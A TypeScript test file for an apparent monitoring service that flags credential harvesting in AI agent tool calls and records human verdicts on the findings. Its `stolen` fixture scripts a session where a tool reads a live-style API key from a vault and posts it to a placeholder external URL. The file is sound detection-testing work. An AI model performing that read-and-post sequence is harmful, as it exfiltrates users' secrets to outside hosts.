/** Findings that made room for others: only the index has them, and a human may still decide on them. */
import { rmSync } from 'node:fs';
import { afterAll, beforeAll, expect, test, vi } from 'vitest';
import { findings } from '../../../collector/catalogue/metrics.ts';
import { collectorDefaults } from '../../../collector/config.ts';
import { RunningCollector, testConfig, toolCall } from '../running.ts';

let collector: RunningCollector;
const config = testConfig({ limits: { ...collectorDefaults.limits, findings: 1 } });

/** A session in which a secret goes to a server of its own, so that it is an incident of its own. */
const stolen = (id: string) => {
  const secret = `sk-live-${id}-9f8e7d6c5b4a39281706f5e4d3c2b1a0`;
  const fields = { session: { id, type: 'support' }, user: id };
  return [
    toolCall({ ...fields, server: 'vault', tool: 'read_secret', result: `api_key=${secret}` }),
    toolCall({
      ...fields,
      server: 'web',
      tool: 'post_webpage',
      arguments: { url: `https://${id}.example/in`, content: `hello ${secret}` },
    }),
  ];
};

const url = (path: string) => `http://127.0.0.1:${collector.ports.pages}${path}`;
const json = async (path: string) => (await fetch(url(path))).json();
const listed = async (user: string) =>
  (await json(`/api/findings?detector=credential_harvesting&user=${user}`)).findings;
const say = (id: string, body: object) =>
  fetch(url(`/api/findings/${id}/verdict`), {
    method: 'POST',
    body: JSON.stringify(body),
    headers: { 'content-type': 'application/json' },
  });

let evicted: string;

beforeAll(async () => {
  collector = await RunningCollector.start(config);
  for (const user of ['ada', 'bo']) {
    await collector.send(stolen(user));
    await vi.waitFor(async () => expect(await listed(user)).toHaveLength(1), 10_000);
  }
  evicted = (await listed('ada'))[0].id;
});
afterAll(() => collector.end());

test('has its page and its place in the API', async () => {
  expect((await json(`/api/findings/${evicted}`)).user).toBe('ada');
  expect(await (await fetch(url(`/findings/${evicted}`))).text()).toContain('ada.example');
});

test('takes a verdict, alone or as an incident, and counts no second time', async () => {
  const answer = await say(evicted, { verdict: 'benign', note: 'a drill', incident: true });
  expect([answer.status, await answer.json()]).toMatchObject([
    200,
    { findings: [{ id: evicted, status: 'dismissed' }] },
  ]);
  const other = (await listed('bo'))[0].id;
  expect(await (await say(other, { verdict: 'true_positive' })).json()).toMatchObject({
    findings: [{ id: other, status: 'confirmed' }],
  });
  await vi.waitFor(async () => expect((await listed('ada'))[0].status).toBe('dismissed'), 10_000);
  const labels = { detector: 'credential_harvesting', severity: 'critical', session_type: 'support' };
  expect(await collector.sample(findings, labels)).toBe(2);
});

test('still has it after a start from the journal alone', async () => {
  await collector.stop();
  for (const file of ['snapshot', 'index.sqlite']) rmSync(`${config.dataDirectory}/${file}`);
  collector = await RunningCollector.start(config);
  await vi.waitFor(
    async () => expect((await listed('ada'))[0]).toMatchObject({ status: 'dismissed' }),
    10_000,
  );
  expect((await listed('ada'))[0].verdict).toMatchObject({ verdict: 'benign', note: 'a drill' });
});
